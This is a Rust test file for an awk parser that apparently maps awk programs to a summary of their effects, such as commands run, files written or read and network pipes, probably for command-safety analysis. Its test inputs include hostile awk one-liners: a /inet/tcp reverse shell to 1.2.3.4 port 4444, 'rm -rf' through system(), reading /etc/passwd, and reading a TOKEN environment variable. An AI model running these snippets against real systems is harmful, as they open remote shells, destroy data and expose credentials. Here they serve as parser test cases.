//! awk.

use super::check;
use crate::Language;

#[test]
fn what_leaves_the_program() {
    check(
        Language::Awk,
        &[
            (r#"BEGIN { system("rm -rf " dir) }"#, r#"(cmd "awk:system" (word "rm -rf " $dir))"#),
            (
                r#"{ print $2 > "out.txt"; print "x" >> $3 } END { print NR | "sort -u"; "date" | getline d }"#,
                r#"(cmd "awk:write" "out.txt" ?) (cmd "awk:write" ? "x" "--append" "true") (cmd "awk:pipe" "sort -u" $NR) (set d (out (cmd "awk:pipe" "date")))"#,
            ),
            (
                r#"BEGIN { while ((getline line < "/etc/passwd") > 0) print line }"#,
                r#"(loop () ((set line (out (cmd "awk:read" "/etc/passwd")))) (cmd "awk:print" $line))"#,
            ),
            (
                r#"BEGIN { s = "/inet/tcp/0/1.2.3.4/4444"; while (42) { printf "shell>" |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s } }"#,
                r#"(set s "/inet/tcp/0/1.2.3.4/4444") (endless () () (cmd "awk:write" $s "shell>") (set c (out (cmd "awk:read" $s))) (loop () ((cmd "awk:pipe" $c)) (cmd "awk:write" $s ?)))"#,
            ),
            (
                r#"{ print ENVIRON["TOKEN"], ENVIRON[x], ARGV[1] }"#,
                r#"(cmd "awk:print" $env:TOKEN $env:* $1)"#,
            ),
            (r#"{ cmd = "rm " $1; system(cmd) }"#, r#"(set cmd (word "rm " ?)) (cmd "awk:system" $cmd)"#),
        ],
    );
}

#[test]
fn grammar() {
    check(
        Language::Awk,
        &[
            ("NR==1{next} $3>5 && $1 ~ /x'/ {print} !seen[$0]++", r#"(cmd "awk:print" ?)"#),
            (
                r#"function f(x, y) { return system(x) } { f("ls"); gsub(/a\/b/, "c") }"#,
                r#"(fn f (x y) (return (out (cmd "awk:system" $x)))) (cmd "f" "ls")"#,
            ),
            (
                r#"{ if ($1 == "a") system("1"); else system("2"); for (k in a) print k, a[k]; do { i++ } while (i < 3) }"#,
                r#"(if () (arm (cmd "awk:system" "1")) (arm (cmd "awk:system" "2"))) (loop () () (cmd "awk:print" $k $a[*])) (loop () ())"#,
            ),
            (
                r#"i++ { print i/2 } length($0) > 80; { print "b" "c" $1 "d"; exit }"#,
                r#"(cmd "awk:print" (num)) (cmd "awk:print" (word "bc" ? "d"))"#,
            ),
        ],
    );
}
